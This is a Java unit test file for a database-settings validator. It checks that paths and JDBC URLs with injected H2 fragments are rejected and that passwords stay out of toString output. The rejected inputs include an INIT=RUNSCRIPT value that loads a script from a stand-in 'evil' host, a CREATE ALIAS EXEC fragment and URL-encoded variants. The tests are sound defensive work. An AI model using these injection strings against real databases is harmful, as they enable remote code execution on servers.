package fr.galien.core.storage;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import fr.galien.core.error.CoreError;
import fr.galien.core.error.SegurException;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class DatabaseSettingsTest {

    @TempDir
    Path dir;

    @ParameterizedTest
    @ValueSource(strings = {"x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "a;init=select 1", "runscript",
        "CREATE ALIAS EXEC", "create\talias", "x%3BINIT%3Dselect", "x%253binit%253d1", "CREATE%20ALIAS"})
    void dataDirectoryWithForbiddenFragmentIsRefused(String fragment) {
        assertThatThrownBy(() -> DatabaseSettings.forDataDirectory(dir.resolve(fragment)))
                .isInstanceOfSatisfying(SegurException.class,
                        e -> assertThat(e.errorCode()).isEqualTo(CoreError.CORE_0003));
    }

    @Test
    void refusalNamesTheOffendingFragment() {
        assertThatThrownBy(() -> DatabaseSettings.forDataDirectory(dir.resolve("x;INIT=1")))
                .hasMessageContaining("CORE-0003").hasMessageContaining("INIT=");
    }

    @Test
    void dataDirectoryWithASemicolonIsRefused() {
        assertThatThrownBy(() -> DatabaseSettings.forDataDirectory(dir.resolve("a;MODE=MySQL")))
                .hasMessageContaining("CORE-0003");
    }

    @ParameterizedTest
    @ValueSource(strings = {"jdbc:postgresql://db/galien?options=INIT=1", "jdbc:h2:file:/tmp/galien;INIT=RUNSCRIPT FROM 'x'",
        "jdbc:h2:file:/tmp/galien;MODE=MySQL", "jdbc:h2:mem:galien", "jdbc:h2:tcp://host/galien",
        "jdbc:mysql://db/galien", "jdbc:postgresql://db/x?x=%3BINIT%3D1", "jdbc:h2:file:/tmp/autre"})
    void urlOutsideTheAcceptedFormsIsRefused(String url) {
        assertThatThrownBy(() -> DatabaseSettings.forUrl(url, "u", "p"))
                .isInstanceOfSatisfying(SegurException.class,
                        e -> assertThat(e.errorCode()).isEqualTo(CoreError.CORE_0003));
    }

    @Test
    void postgresqlUrlIsAccepted() {
        DatabaseSettings settings = DatabaseSettings.forUrl("jdbc:postgresql://127.0.0.1/galien", "galien", "secret");
        assertThat(settings.engine()).isEqualTo(Database.Engine.POSTGRESQL);
        assertThat(settings.dataDirectory()).isNull();
    }

    @Test
    void plainH2FileUrlMeansItsDataDirectory() {
        DatabaseSettings settings = DatabaseSettings.forUrl("jdbc:h2:file:" + dir.resolve("galien"), null, null);
        assertThat(settings.engine()).isEqualTo(Database.Engine.H2);
        assertThat(settings.dataDirectory()).isEqualTo(dir.toAbsolutePath());
    }

    @Test
    void h2UrlCarriesTheDurabilitySettings() {
        assertThat(DatabaseSettings.forDataDirectory(dir).jdbcUrl()).endsWith("/galien;WRITE_DELAY=0;REUSE_SPACE=FALSE;TRACE_LEVEL_FILE=0;CIPHER=AES");
    }

    @Test
    void toStringNeverShowsThePassword() {
        assertThat(DatabaseSettings.forUrl("jdbc:postgresql://127.0.0.1/galien", "galien", "s3cr3t").toString())
                .doesNotContain("s3cr3t");
    }
}
